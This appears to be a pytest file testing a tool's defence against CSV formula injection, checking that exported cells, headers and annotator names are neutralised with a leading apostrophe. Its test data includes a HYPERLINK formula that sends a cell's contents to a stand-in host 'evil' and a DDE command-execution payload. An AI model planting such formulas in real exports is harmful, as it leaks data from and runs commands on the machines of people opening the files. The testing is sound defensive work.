"""Every CSV the tool writes opens in a spreadsheet as data: a text cell that a spreadsheet would run as a
formula (=, +, -, @, tab, carriage return first) is neutralised, and numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from engine.csv_safe import FORMULA_STARTS, frame_to_csv, safe_cell

HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "=1"]


def assert_no_formula_cells(text: str) -> list[list[str]]:
    """Parse a CSV and check no cell would run as a formula (a plain number may start with + or -)."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a number may start so; anything else raises here
    return rows


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_gets_a_leading_apostrophe_and_keeps_its_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-0.25, 3, None, "-0.25", "+1e-3", "-inf", "nan", "plain", "", "a=b", "'=x"])
def test_numbers_and_harmless_text_pass_unchanged(value):
    assert safe_cell(value) is value


def test_frame_to_csv_neutralises_text_and_headers_and_keeps_negative_floats_numeric():
    frame = pd.DataFrame({"score": [-0.5, 0.25, -1e-9], "token": HOSTILE[:3], "=bad header": ["a", "b", "c"]})
    text = frame_to_csv(frame)
    rows = assert_no_formula_cells(text)
    assert rows[0] == ["score", "token", "'=bad header"]
    back = pd.read_csv(io.StringIO(text))
    assert back["score"].dtype == "float64" and back["score"].tolist() == [-0.5, 0.25, -1e-9]
    assert back["token"].tolist() == ["'" + v for v in HOSTILE[:3]]
    assert frame["token"].tolist() == HOSTILE[:3], "the caller's frame is not changed"


def test_rankings_csv_neutralises_annotator_names(tmp_path):
    """An annotator who calls themselves '=HYPERLINK(...)' cannot plant a formula in the rankings export."""
    from engine.annotation import AnnotationStore, rankings_csv
    from engine.plausibility import make_task

    store = AnnotationStore(tmp_path / "a.sqlite3")
    tokens = ["a", "witty", "film"]
    store.add_tasks([make_task("m", "a witty film", tokens, {"grad": [0.1, 0.9, 0.2], "loo": [0.0, 0.5, -0.1]},
                               target=1, target_name="=pos", target_source="predicted", label=1, label_name="=pos",
                               dataset="toy", code_version="test")])
    task = store.tasks()[0]
    from engine.errors import InvalidInputError

    typed = [n for n in HOSTILE if not n.startswith(("\t", "\r"))]  # a control character is refused at entry
    for name in set(HOSTILE) - set(typed):
        with pytest.raises(InvalidInputError, match="control character"):
            store.submit_ranking(task.id, name, [[slot] for slot in task.slots])
    for name in typed:
        store.submit_ranking(task.id, name, [[slot] for slot in task.slots])
    rows = assert_no_formula_cells(rankings_csv(store))
    annotators = [row[rows[0].index("annotator")] for row in rows[1:]]
    assert sorted(set(annotators)) == sorted("'" + n for n in typed)


def test_masking_curve_csv_neutralises_masked_tokens(toy_classifier):
    """The masking page's download (frame_to_csv over the curve table): a masked token list that starts with '='
    is neutralised, and the probability columns read back as numbers."""
    from engine.faithfulness.single import mask_single_input

    result = mask_single_input(toy_classifier, "=HYPERLINK good film", "grad-l2", random_seeds=(0,), ratios=(0.0, 0.5, 1.0))
    text = frame_to_csv(result.curve_table())
    assert_no_formula_cells(text)
    back = pd.read_csv(io.StringIO(text))
    assert back["masked_tokens"].dropna().str.startswith("'=").any()
    assert pd.api.types.is_float_dtype(back["p_target_random_mean"])
